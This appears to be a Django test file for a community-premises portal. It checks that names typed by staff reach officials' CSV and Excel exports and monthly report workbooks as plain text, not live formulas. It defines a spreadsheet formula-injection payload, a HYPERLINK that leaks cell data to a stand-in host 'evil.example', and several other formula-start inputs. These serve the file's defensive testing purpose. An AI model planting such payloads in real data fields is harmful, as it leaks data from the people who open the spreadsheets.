"""A name typed by staff never reaches an official's spreadsheet as a live formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from communities.models import Premises
from portal import months
from portal.dashboards import rollup
from portal.dashboards.selectors import dashboard_for
from portal.reports.models import MonthlyReport
from portal.reports.services import monthly_report_request
from portal.spreadsheets import FORMULA_STARTS, safe_cell
from tests.childcare.factories import StationFactory
from tests.factories import PremisesFactory

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
OTHER_STARTS = ["+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("text", [EVIL, *OTHER_STARTS])
def test_text_that_starts_a_formula_becomes_plain_text(text):
    cell = safe_cell(text)
    assert cell == "'" + text
    assert not cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", [None, 0, -5, 2.5, "老年活动室", "a=b", "12-3"])
def test_other_values_are_left_as_they_are(value):
    assert safe_cell(value) == value


@pytest.fixture
def evil_names(county_tree, community):
    """Every kind of name a community or station worker can type that reaches an export."""
    PremisesFactory(community=community, name=EVIL, used_by="@SUM(A1:A9)", area_m2=90)
    PremisesFactory(
        community=community,
        name="-1+1",
        used_by=EVIL,
        area_m2=50,
        status=Premises.Status.IN_USE,
    )
    StationFactory(community=community, name=EVIL)
    rollup.refresh_month(months.current_month())
    return county_tree


def _assert_no_formula_in_csv(content: bytes, where: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert cells, where
    bad = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not bad, f"{where}: {bad}"
    return cells


def _assert_no_formula_in_xlsx(content: bytes, where: str) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where} {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (where, cell.value)
                    texts.append(cell.value)
    return texts


def test_every_dashboard_export_carries_the_name_as_text(client, official, evil_names):
    client.force_login(official)
    slugs = list(dashboard_for(evil_names, months.current_month()).tables)
    assert {"premises", "gaps", "stations", "summary"} <= set(slugs)
    seen_evil = set()
    for slug in slugs:
        for fmt in ("csv", "xlsx"):
            url = reverse("dashboards:region_export", args=[evil_names.code, slug, fmt])
            response = client.get(url)
            assert response.status_code == 200, url
            where = f"{slug}.{fmt}"
            if fmt == "csv":
                texts = _assert_no_formula_in_csv(response.content, where)
            else:
                texts = _assert_no_formula_in_xlsx(response.content, where)
            if any(EVIL in t for t in texts):
                seen_evil.add(where)
    # The name did arrive (as text) where a name is shown.
    assert {"premises.csv", "premises.xlsx", "gaps.csv", "gaps.xlsx"} <= seen_evil
    assert {"stations.csv", "stations.xlsx"} <= seen_evil


def test_the_monthly_report_workbook_carries_the_name_as_text(
    django_capture_on_commit_callbacks, evil_names, official
):
    with django_capture_on_commit_callbacks(execute=True):
        report = monthly_report_request(
            region=evil_names, month=months.current_month(), by=official
        )
    report.refresh_from_db()
    assert report.status == MonthlyReport.Status.READY
    texts = _assert_no_formula_in_xlsx(report.xlsx.read(), "monthly report")
    assert "'" + EVIL in texts
